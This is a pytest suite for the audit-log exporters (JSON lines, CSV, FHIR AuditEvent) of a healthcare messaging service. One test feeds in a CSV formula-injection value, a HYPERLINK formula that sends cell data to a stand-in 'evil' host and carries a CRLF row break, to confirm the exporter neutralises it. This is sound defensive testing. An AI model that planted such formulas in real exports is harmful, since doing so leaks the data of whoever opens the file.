"""Exports hold everything that was found, with sequence numbers, integrity values and explicit offsets."""

import base64
import csv
import datetime
import io
import itertools
import json
import re
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import msgspec
import pytest

from minispine.audit import reading, search
from minispine.audit.events import Entry, Event, EventType
from minispine.audit.export import as_csv, as_fhir, as_json_lines
from minispine.audit.export.csv import COLUMNS, harmless
from minispine.audit.log import AuditLog
from minispine.audit.merkle import leaf_hash
from minispine.audit.reading import Absent, Record
from minispine.audit.search import Query
from minispine.storage import Database, Store
from tests.audit.conftest import START, VAULT, Clock, LogMaker, note
from tests.audit.samples import full_sample, sample
from tests.audit.stories import BY_SEARCH, Call, act, person

NUMBER, OTHER = "9434765919", "9449310467"
ORDINARY = Call(name="ordinary")
TRACED = Call(name="traced", user="mjones", operation=BY_SEARCH, patient=None, found=OTHER, spine=("found", "found"))
FAILED = Call(name="failed", found=None, code="SMSP-0004", spine=("unavailable",))
HALF_PAST_ONE = (
    datetime.datetime(2026, 10, 25, 0, 30, tzinfo=datetime.UTC),
    datetime.datetime(2026, 10, 25, 1, 30, tzinfo=datetime.UTC),
)

Exporter = Callable[[Iterable[Record], Query], Iterator[bytes]]


@pytest.fixture
def written(log: AuditLog) -> None:
    for call in (ORDINARY, TRACED, FAILED):
        for entry in call.entries:
            log.append_now(entry)
    log.append_now(act(EventType.RECORD_DISPLAYED, person("a.nurse", "Ann Nurse", authority="dr.x"), NUMBER))
    log.append_now(note("no-certificate"))


def exported(database: Database, exporter: Exporter, *, private: bool = True, **conditions: Any) -> bytes:
    query = Query(**conditions)
    return b"".join(exporter(search.found(database, VAULT, query, private=private), query))


def json_lines(text: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


# ── JSON lines ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.usefixtures("written")
def test_json_lines_hold_every_event_and_the_hash_of_its_leaf(database: Database) -> None:
    lines = json_lines(exported(database, as_json_lines))
    expected = list(reading.events(database, vault=VAULT))
    assert [{k: v for k, v in line.items() if k != "leaf_hash"} for line in lines] == expected
    with database.session(Store.AUDIT) as session:
        leaves = dict(session.rows("SELECT sequence, leaf FROM audit_record"))
    assert all(line["leaf_hash"] == leaf_hash(bytes(leaves[line["sequence"]])).hex() for line in lines)
    assert [line["sequence"] for line in lines] == sorted(line["sequence"] for line in lines)
    assert {line["sequence"] for line in lines} == set(range(1, 10))


@pytest.mark.usefixtures("written")
@pytest.mark.parametrize("exporter", [as_json_lines, as_csv, as_fhir])
def test_an_export_holds_nothing_of_patients_unless_asked_for(database: Database, exporter: Exporter) -> None:
    in_the_open = exported(database, exporter, private=False)
    encoded = b"".join(base64.b64decode(text) for text in re.findall(rb'"query":"([^"]+)"', in_the_open))
    for datum in (NUMBER.encode(), OTHER.encode(), b"20090310"):
        assert datum not in in_the_open + encoded
        assert datum in exported(database, as_json_lines)


@pytest.mark.usefixtures("written")
@pytest.mark.parametrize(("exporter", "header"), [(as_json_lines, 0), (as_csv, 1), (as_fhir, 0)])
def test_an_export_holds_what_the_query_finds(database: Database, exporter: Exporter, header: int) -> None:
    assert exported(database, exporter, client="ward", event="exchange.replied").count(b"\n") == 3 + header
    assert exported(database, exporter, first=4, last=5).count(b"\n") == 6 + header
    assert exported(database, exporter, user="nobody").count(b"\n") == header


@pytest.mark.requirement("SMSP-AUDIT-011", "a")
@pytest.mark.requirement("MSCA-AUD-07", "a")
def test_times_in_the_hour_that_comes_twice_have_an_offset_and_sort_in_true_order(
    database: Database, make_log: LogMaker, clock: Clock
) -> None:
    """Both events are at 01:30 in London."""
    clock.us = START
    log = make_log(database)
    for when in HALF_PAST_ONE:
        clock.us = round(when.timestamp() * 1_000_000)
        log.append_now(Entry(events=(sample(EventType.EXCHANGE_UNDELIVERED, at=clock.us),), exchange="e"))
    csv_rows = list(csv.DictReader(io.StringIO(exported(database, as_csv, first=2).decode())))
    lines = json_lines(exported(database, as_json_lines, first=2))
    resources = json_lines(exported(database, as_fhir, first=2))
    of_forms = [
        [(row["at"], row["sealed_at"]) for row in csv_rows],
        [(line["at"], line["sealed_at"]) for line in lines],
        [(each["period"]["start"], each["recorded"]) for each in resources],
    ]
    for times in of_forms:
        assert all(re.fullmatch(r".*(Z|[+-]\d\d:\d\d)", time) for both in times for time in both)
        for place in (0, 1):
            texts = [both[place] for both in times]
            assert texts == sorted(texts)
            assert tuple(datetime.datetime.fromisoformat(text) for text in texts) == HALF_PAST_ONE


# ── CSV ─────────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.usefixtures("written")
def test_csv_has_a_row_for_each_event_with_who_did_it_and_what_came_of_it(database: Database) -> None:
    rows = list(csv.DictReader(io.StringIO(exported(database, as_csv).decode(), newline="")))
    events = list(reading.events(database, vault=VAULT))
    assert tuple(rows[0]) == COLUMNS
    assert [(row["sequence"], row["index"], row["type"]) for row in rows] == [
        (str(e["sequence"]), str(e["index"]), e["type"]) for e in events
    ]
    assert [json.loads(row["data"]) for row in rows] == [e["data"] for e in events]
    assert [json.loads(row["private"] or "{}") for row in rows] == [e["private"] for e in events]
    replied = next(row for row in rows if row["type"] == "exchange.replied")
    assert (replied["result"], replied["source"], replied["client"]) == ("SMSP-0000", "spine", "ward")
    shown = next(row for row in rows if row["type"] == "record.displayed")
    assert (shown["who"], shown["authority"], shown["device"]) == ("Ann Nurse (a.nurse)", "dr.x", "WS-17")
    assert all(re.fullmatch("[0-9a-f]{64}", row["leaf_hash"]) for row in rows)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  @x", "\uff1d1"])
def test_a_cell_that_would_be_a_formula_is_made_harmless(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "jsmith", "1=1", "a-b", "{}", "'=1"])
def test_any_other_cell_is_left_alone(cell: str) -> None:
    assert harmless(cell) == cell


def test_what_a_caller_wrote_is_no_formula_and_breaks_no_row(database: Database, log: AuditLog) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1,"x")\r\n,"2"'
    log.append_now(
        Entry(events=(sample(EventType.EXCHANGE_RECEIVED, user_code=evil, organisation="@X"),), exchange=evil)
    )
    (row,) = csv.DictReader(io.StringIO(exported(database, as_csv, first=2).decode(), newline=""))
    assert row["who"] == "'" + evil
    assert row["organisation"] == "'@X"
    assert row["exchange"] == "'" + evil


def test_what_is_no_longer_there_is_said(database: Database, log: AuditLog) -> None:
    log.append_now(ORDINARY.asked)
    (record,) = reading.records(database, [2])
    for absent, said in (
        (Absent("removed", 9, "QB-7"), "(removed: QB-7)"),
        (Absent("archived", 9, "2026.zip"), "(archived: 2026.zip)"),
        (Absent("missing"), "(missing)"),
    ):
        gone = msgspec.structs.replace(record, absent=absent)
        rows = csv.DictReader(io.StringIO(b"".join(as_csv([gone], Query())).decode(), newline=""))
        assert {row["private"] for row in rows} == {said}
        (line, *_) = json_lines(b"".join(as_json_lines([gone], Query())))
        assert (line["private"], line[absent.why]) == (None, absent.reference or True)
        (resource, *_) = json_lines(b"".join(as_fhir([gone], Query())))
        details = resource["entity"][-1]["detail"]
        assert {"type": absent.why, "valueString": absent.reference or "true"} in details


# ── FHIR ────────────────────────────────────────────────────────────────────────────────────────────────────────────

DCM = "http://dicom.nema.org/resources/ontology/DCM"
PATIENT = ("http://terminology.hl7.org/CodeSystem/audit-entity-type", "1")
PATTERN = re.compile(r"https://profiles\.ihe\.net/ITI/BALP/StructureDefinition/IHE\.BasicAudit\.(Patient)?(\w+)")
INTERACTIONS = {"Query": ("search", "E"), "Read": ("read", "R"), "Update": ("update", "U")}
INSTANT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")


def coded(coding: dict[str, str]) -> tuple[str, str]:
    return coding["system"], coding["code"]


def check_audit_event(resource: dict[str, Any]) -> None:
    """What FHIR R4 demands of an AuditEvent: its elements, their cardinalities and the codes bound to them."""
    known = {"resourceType", "id", "meta", "type", "subtype", "action", "period", "recorded", "outcome", "outcomeDesc"}
    assert resource.keys() <= known | {"purposeOfEvent", "agent", "source", "entity"}
    assert resource["resourceType"] == "AuditEvent"
    assert re.fullmatch(r"[A-Za-z0-9.-]{1,64}", resource["id"])
    assert all(coded(each)[1] for each in (resource["type"], *resource["subtype"]))
    assert resource["action"] in "CRUDE"
    assert resource["outcome"] in ("0", "4", "8", "12")
    for time in (resource["recorded"], *resource["period"].values()):
        assert INSTANT.fullmatch(time)
    assert resource["agent"]
    for agent in resource["agent"]:
        assert agent.keys() <= {"type", "role", "who", "altId", "name", "requestor", "network", "purposeOfUse"}
        assert isinstance(agent["requestor"], bool)
        if "network" in agent:
            assert agent["network"]["type"] in "12345"
            assert agent["network"]["address"]
    assert resource["source"]["observer"]
    for entity in resource["entity"]:
        assert entity.keys() <= {"what", "type", "role", "name", "description", "query", "detail"}
        assert not {"name", "query"} <= entity.keys(), "sev-1"
        assert all(each["type"] and isinstance(each["valueString"], str) for each in entity.get("detail", ()))
        assert all(each["valueString"] for each in entity.get("detail", ()))

    def filled(value: Any) -> bool:
        """No element is null or empty: ele-1."""
        if isinstance(value, dict):
            return bool(value) and all(map(filled, value.values()))
        return value not in (None, "", [], {}) and (not isinstance(value, list) or all(map(filled, value)))

    assert filled(resource)


def check_pattern(resource: dict[str, Any]) -> str:
    """What BALP's profile, named in meta.profile, demands beyond that. Gives its name."""
    (profile,) = resource["meta"]["profile"]
    named = PATTERN.fullmatch(profile)
    assert named
    of_patient, name = named.groups()
    interaction, action = INTERACTIONS[name]
    assert coded(resource["type"]) == ("http://terminology.hl7.org/CodeSystem/audit-event-type", "rest")
    assert ("http://hl7.org/fhir/restful-interaction", interaction) in map(coded, resource["subtype"])
    assert (resource["action"], resource["outcome"]) == (action, "0")
    agents = {coded(agent["type"]["coding"][0]): agent for agent in resource["agent"]}
    source, destination = agents[DCM, "110153"], agents[DCM, "110152"]
    server = source if name == "Read" else destination
    for agent in (source, destination):
        assert agent["who"]
        assert agent["network"]
        assert not agent["requestor"]
    assert server["who"] == resource["source"]["observer"] or "urn:" in server["network"]["address"]
    for agent in resource["agent"]:
        if agent not in (source, destination):
            assert agent["who"]
            assert "network" not in agent
    entities = [coded(entity["type"]) for entity in resource["entity"]]
    assert entities.count(("http://terminology.hl7.org/CodeSystem/audit-entity-type", "2")) == 1
    object_ = next(e for e in resource["entity"] if coded(e["type"])[1] == "2")
    if name == "Query":
        assert coded(object_["role"]) == ("http://terminology.hl7.org/CodeSystem/object-role", "24")
        assert base64.b64decode(object_["query"], validate=True)
        assert not {"what", "detail"} & object_.keys()
    else:
        assert coded(object_["role"])[1] in ("3", "4", "20")
        assert object_["what"]
    assert (entities.count(PATIENT) == 1) == bool(of_patient)
    for entity in resource["entity"]:
        if coded(entity["type"]) == PATIENT:
            assert coded(entity["role"]) == ("http://terminology.hl7.org/CodeSystem/object-role", "1")
            assert entity["what"]["type"] == "Patient"
        elif coded(entity["type"])[1] == "XrequestId":
            assert entity["what"]["identifier"]["value"]
    return f"{of_patient or ''}{name}"


@pytest.mark.usefixtures("written")
def test_each_event_is_an_audit_event_and_those_with_a_pattern_keep_to_it(database: Database) -> None:
    resources = json_lines(exported(database, as_fhir))
    events = list(reading.events(database))
    assert [r["id"] for r in resources] == [f"{e['sequence']}-{e['index']}" for e in events]
    patterns = {}
    for resource, event in zip(resources, events, strict=True):
        check_audit_event(resource)
        if "meta" in resource:
            patterns.setdefault(event["type"], set()).add(check_pattern(resource))
    assert patterns == {
        "exchange.spine-answered": {"PatientQuery"},
        "exchange.replied": {"PatientQuery"},
        "record.displayed": {"PatientRead"},
    }


@pytest.mark.usefixtures("written")
def test_the_answer_to_a_client_is_told_with_its_question(database: Database) -> None:
    """Who asked, from where, for whom, what and about whom stands in the record before."""
    resource = next(r for r in json_lines(exported(database, as_fhir)) if r["id"] == "3-1")
    client, server, user = resource["agent"]
    assert client["who"]["identifier"]["value"] == "ward"
    assert client["network"] == {"address": "some peer", "type": "2"}
    assert server["who"]["identifier"]["value"] == "SMSP-1"
    assert user["who"]["identifier"]["value"] == "jsmith"
    assert user["who"]["identifier"]["assigner"]["identifier"]["value"] == "RXX"
    assert user["requestor"] is True
    query = next(e["query"] for e in resource["entity"] if "query" in e)
    assert json.loads(base64.b64decode(query)) == {
        "operation": ORDINARY.operation.value,
        "birth_date": "20090310",
        "nhs_number": NUMBER,
    }
    patient = next(e for e in resource["entity"] if coded(e["type"]) == PATIENT)
    assert patient["what"]["identifier"] == {"system": "https://fhir.nhs.uk/Id/nhs-number", "value": NUMBER}
    transaction = next(e for e in resource["entity"] if coded(e["type"])[1] == "XrequestId")
    assert transaction["what"]["identifier"]["value"] == ORDINARY.message_id
    place = {d["type"]: d["valueString"] for d in resource["entity"][-1]["detail"]}
    assert (place["sequence"], place["exchange"]) == ("3", ORDINARY.exchange)
    assert re.fullmatch("[0-9a-f]{64}", place["leaf-hash"])


@pytest.mark.usefixtures("written")
def test_an_answer_whose_question_was_not_exported_claims_no_pattern(database: Database) -> None:
    replied = json_lines(exported(database, as_fhir, event="exchange.replied"))
    assert all("meta" not in resource for resource in replied)
    for resource in replied:
        check_audit_event(resource)
    silent = next(r for r in json_lines(exported(database, as_fhir)) if r["id"] == "7-0")
    assert (silent["outcome"], "meta" in silent) == ("8", False)
    failed = next(r for r in json_lines(exported(database, as_fhir)) if r["id"] == "7-1")
    assert (failed["outcome"], failed["outcomeDesc"], "meta" in failed) == ("4", "SMSP-0004", False)


@pytest.mark.parametrize("type_", EventType)
def test_every_type_of_event_makes_an_audit_event(type_: EventType) -> None:
    """With all that it may say, and with the least."""
    author = {"user_id": "u", "role_profile_id": "r", "role_id": "x"}
    known = {"author": author, "audit_identity": [{"type": "1.2", "uri": "urn:x"}], "ids": []}
    full = full_sample(type_)
    least = sample(type_, **{n: None for n in sample(type_).data if n != "actor"})
    for event, client in itertools.product((full, least), (None, "ward")):
        data = {name: known.get(name, value) if event is full else value for name, value in event.data.items()}
        record = Record(
            sequence=7,
            hash=bytes(32),
            sealed_at=START,
            system="SMSP-1",
            instance="i",
            exchange="e" if client else None,
            client=client,
            client_message_id="m" if client else None,
            repeats=None,
            events=({"type": type_.value, "at": event.at, "data": data},),
            privates=(event.private,),
        )
        (resource,) = json_lines(b"".join(as_fhir([record], Query())))
        check_audit_event(resource)
        if "meta" in resource:
            check_pattern(resource)


def test_a_question_is_remembered_only_until_it_is_answered(database: Database, log: AuditLog) -> None:
    log.append_now(ORDINARY.asked)
    log.append_now(ORDINARY.replied)
    late = Event(type=EventType.EXCHANGE_UNDELIVERED, at=START, data={})
    log.append_now(Entry(events=(late,), exchange=ORDINARY.exchange, client="ward"))
    *_, replied, after = json_lines(exported(database, as_fhir))
    assert "network" in replied["agent"][0]
    assert "network" not in after["agent"][0]
